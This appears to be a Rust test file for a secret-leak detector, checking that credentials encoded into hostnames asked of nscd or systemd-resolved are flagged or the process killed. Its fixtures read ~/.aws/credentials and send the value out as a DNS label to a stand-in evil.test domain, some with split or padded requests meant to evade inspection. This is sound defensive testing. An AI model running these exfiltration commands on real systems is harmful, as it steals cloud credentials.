//! Names that are asked of a service of the host, over its unix socket: what goes out is the service's own question, so it is found and
//! not refused.

use detector::{
    engine::{Action, Finding, Verdict},
    event::{Body, Outcome as Fate, Question, Service as Asked},
};
use detector_tests::{
    resolver::Resolver,
    scene::Scene,
    service::{Kind, Service},
    watched::Watched,
};
use std::{fs, net::Ipv4Addr};

type Result = anyhow::Result<()>;

const GOOD: &str = "api.good.test";
const EVIL: &str = "drop.evil.test";
/// What services answer with.
const ADDRESS: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);
const MODES: [&str; 2] = ["enforce", "audit"];

/// A key may be spent at one name, and nowhere else.
const POLICY: &str = "version: 1\nextends: builtin\ndestinations:\n  - { to: [api.good.test], accept: [aws] }\n";
/// The same, and whose key leaks is killed.
const KILLS: &str = "version: 1\nextends: builtin\nclasses: { aws: { action: kill } }\n";

/// The key, in one label.
const KEY: &str = "key=$(tail -c 42 ~/.aws/credentials | tr -dc A-Za-z0-9)\n";

/// What `nss-resolve` sends, by hand: asks for `argv[2]` as `argv[1]` says, and prints the address.
const ASK: &str = r#"
import json, os, socket, subprocess, sys
way, name = sys.argv[1:3]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect("/run/systemd/resolve/io.systemd.Resolve")
call = {"method": "io.systemd.Resolve.ResolveHostname", "parameters": {"name": name, "family": 2, "ifindex": 0, "flags": 0}}
text = json.dumps(call).encode() + b"\0"
half = len(text) // 2
if way == "send":
    s.send(text)
elif way == "write":
    os.write(s.fileno(), text)
elif way == "writev":
    os.writev(s.fileno(), [text])
elif way == "sendmsg":
    s.sendmsg([text])
elif way == "shell":
    os.dup2(s.fileno(), 7)
    subprocess.run(["bash", "-c", sys.argv[3]], pass_fds=[7])
elif way == "vector":
    os.writev(s.fileno(), [text[:half], text[half:]])
elif way == "pieces":
    s.send(text[:half])
    s.send(text[half:])
elif way == "splice":
    r, w = os.pipe()
    os.write(w, text)
    os.splice(r, s.fileno(), len(text))
elif way == "long":
    s.send(text[:-2] + b" " * 600 + text[-2:])
answer = s.recv(4096)
print(json.loads(answer[:-1])["parameters"].get("addresses", "no such name"))
"#;

/// The words that ask for `name` with the key in the hands of who sends, which may be a shell itself.
fn asks(way: &str, name: &str) -> String {
    if way == "shell" {
        let call = r#"{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"%s"}}\0"#;
        return format!("python3 \"$TMPDIR/ask.py\" shell - '{KEY}printf '\\''{call}'\\'' {name} >&7'");
    }
    format!("{KEY}KEY=$key python3 \"$TMPDIR/ask.py\" {way} {name}")
}

fn run(scene: &Scene, service: &Service, mode: &'static str, policy: &str, script: &str) -> anyhow::Result<Watched> {
    fs::write(scene.home.tmp().join("ask.py"), ASK)?;
    let job = scene.job(["bash", "-c", script]).policy(policy).mode(mode);
    Watched::run(scene, &job.resolver(Resolver::default().host(ADDRESS.into(), "here.test")).mounts(service.mounts()?))
}

fn leaks(run: &Watched) -> Vec<&Finding> {
    run.conclusion.findings.iter().filter(|finding| finding.rule.starts_with("leak")).collect()
}

fn questions(run: &Watched) -> Vec<&Question> {
    let questions = run.recording.events.iter().filter_map(|event| match &event.body {
        Body::Question(question) => Some(question),
        _ => None,
    });
    questions.collect()
}

/// Exactly one leak, of the key to what `service` was asked for, which went its way.
#[track_caller]
fn found(run: &Watched, service: Asked) -> &Finding {
    let leaks = leaks(run);
    assert_eq!(leaks.len(), 1, "{:#?}", run.conclusion.findings);
    let leak = leaks[0];
    assert_eq!((leak.rule.as_str(), leak.secret.as_slice()), ("leak", &["aws".to_owned()][..]));
    assert_eq!(leak.destination.as_ref().and_then(|to| to.service), Some(service), "{leak:#?}");
    assert_eq!(leak.enforced.map(|enforced| enforced.outcome), Some(Fate::Passed), "{leak:#?}");
    assert!(leak.message.contains(service.name()) && leak.message.contains("could not be refused"), "{}", leak.message);
    assert_eq!(run.conclusion.verdict, Verdict::Fail);
    gap(run, service);
    leak
}

/// The report says once that what the service answers is not seen.
#[track_caller]
fn gap(run: &Watched, service: Asked) {
    let gaps = &run.conclusion.coverage.gaps;
    assert!(gaps.len() == 1 && gaps[0].starts_with(service.name()), "{gaps:?}");
}

/// Nothing was found, and where nobody held anything nothing was said.
#[track_caller]
fn silent(run: &Watched) {
    assert!(leaks(run).is_empty(), "{:#?}", run.conclusion.findings);
    assert_ne!(run.conclusion.verdict, Verdict::Fail);
}

/// The C library's own client, and the key spelled in a label.
#[test]
fn a_secret_spelled_to_nscd_is_found() -> Result {
    for mode in MODES {
        let (scene, service) = (Scene::new()?, Service::start(Kind::Nscd, &[])?);
        let run = run(&scene, &service, mode, POLICY, &format!("{KEY}getent ahosts $key.evil.test; true"))?;
        let leak = found(&run, Asked::Nscd);
        let name = leak.destination.as_ref().and_then(|to| to.name.as_deref()).unwrap_or_default();
        assert!(name.starts_with("‹redacted:") && name.ends_with(".evil.test"), "{name}");
        // It is not refused, and the service was asked for the whole of it.
        let asked = service.asked();
        assert!(asked.iter().any(|name| name.ends_with(".evil.test") && name.len() > 40), "{mode}: {}", asked.len());
    }
    Ok(())
}

#[test]
fn an_allowed_name_is_asked_of_nscd_in_silence() -> Result {
    for mode in MODES {
        let (scene, service) = (Scene::new()?, Service::start(Kind::Nscd, &[(GOOD, ADDRESS), ("here.test", ADDRESS)])?);
        // A name of this host, which the C library asks nscd for, too.
        let local = "KEY=$key getent ahosts here.test";
        let script =
            format!("{KEY}{local}; KEY=$key getent ahosts {GOOD}; KEY=$key perl -e 'exit !gethostbyname(\"{GOOD}\")'");
        let run = run(&scene, &service, mode, POLICY, &script)?;
        silent(&run);
        gap(&run, Asked::Nscd);
        assert!(String::from_utf8_lossy(&run.outcome.stdout).contains(&ADDRESS.to_string()));
        assert_eq!(run.outcome.code(), Some(0));
        let asked = questions(&run);
        let names: Vec<_> = asked.iter().map(|asked| (asked.name.as_str(), asked.service)).collect();
        assert_eq!(names, ["here.test", GOOD, GOOD].map(|name| (name, Some(Asked::Nscd))));
        assert_eq!(service.asked(), ["here.test", GOOD, GOOD]);
    }
    Ok(())
}

/// Who holds nothing asks for what it likes, and who asks for users asks for no name.
#[test]
fn who_holds_nothing_asks_in_silence() -> Result {
    let (scene, service) = (Scene::new()?, Service::start(Kind::Nscd, &[(EVIL, ADDRESS)])?);
    let script = format!(
        "{KEY}cat ~/.aws/credentials > /dev/null; getent ahosts {EVIL}; KEY=$key getent passwd root > /dev/null"
    );
    let run = run(&scene, &service, "enforce", POLICY, &script)?;
    silent(&run);
    assert!(questions(&run).is_empty() && run.conclusion.coverage.gaps.is_empty());
    assert_eq!(service.asked(), [EVIL]);
    let warned = String::from_utf8_lossy(&run.outcome.stderr).into_owned();
    assert!(warned.contains("programs ask nscd for names"), "{warned}");
    Ok(())
}

/// Whatever call sends it.
#[test]
fn a_secret_spelled_to_resolved_is_found() -> Result {
    for mode in MODES {
        for way in ["send", "write", "writev", "sendmsg", "shell"] {
            let (scene, service) = (Scene::new()?, Service::start(Kind::Resolved, &[])?);
            let run = run(&scene, &service, mode, POLICY, &asks(way, "$key.evil.test"))?;
            let leak = found(&run, Asked::SystemdResolved);
            let name = leak.destination.as_ref().and_then(|to| to.name.as_deref()).unwrap_or_default();
            assert!(name.starts_with("‹redacted:") && name.ends_with(".evil.test"), "{way}: {name}");
            let asked = service.asked();
            assert!(asked.len() == 1 && asked[0].ends_with(".evil.test"), "{way}: {}", asked.len());
        }
    }
    Ok(())
}

/// A request that is not whole in one buffer, or too long, hides no name: it counts as one that nobody accepts.
#[test]
fn a_request_in_disguise_counts() -> Result {
    for way in ["vector", "pieces", "splice", "long"] {
        let (scene, service) = (Scene::new()?, Service::start(Kind::Resolved, &[(GOOD, ADDRESS)])?);
        let run = run(&scene, &service, "enforce", POLICY, &asks(way, GOOD))?;
        let leak = found(&run, Asked::SystemdResolved);
        assert_eq!(leak.destination.as_ref().and_then(|to| to.name.as_deref()), None, "{way}");
        assert!(leak.message.contains("a name that cannot be read"), "{}", leak.message);
        assert_eq!(service.asked(), [GOOD]);
    }
    Ok(())
}

#[test]
fn an_allowed_name_is_asked_of_resolved_in_silence() -> Result {
    for way in ["send", "write", "writev", "sendmsg", "shell"] {
        let (scene, service) = (Scene::new()?, Service::start(Kind::Resolved, &[(GOOD, ADDRESS)])?);
        let run = run(&scene, &service, "enforce", POLICY, &asks(way, GOOD))?;
        silent(&run);
        gap(&run, Asked::SystemdResolved);
        assert_eq!((run.outcome.code(), service.asked()), (Some(0), vec![GOOD.to_owned()]), "{way}");
    }
    Ok(())
}

/// What could not be refused is killed afterwards, where the class says so.
#[test]
fn who_leaks_a_key_that_kills_is_killed() -> Result {
    for mode in MODES {
        let (scene, service) = (Scene::new()?, Service::start(Kind::Nscd, &[])?);
        // It would go on for a while.
        let script = format!(
            "{KEY}KEY=$key exec perl -e 'gethostbyname(\"{EVIL}\"); for (1..50) {{ select(undef, undef, undef, 0.1) }} print \"lived\\n\"'"
        );
        let run = run(&scene, &service, mode, KILLS, &script)?;
        let leak = found(&run, Asked::Nscd);
        let killed = leak.enforced.is_some_and(|enforced| enforced.killed);
        assert_eq!((leak.action, killed), (Action::Kill, mode == "enforce"));
        assert_eq!(run.outcome.stdout == b"lived\n", mode == "audit");
        assert_eq!(service.asked(), [EVIL]);
    }
    Ok(())
}
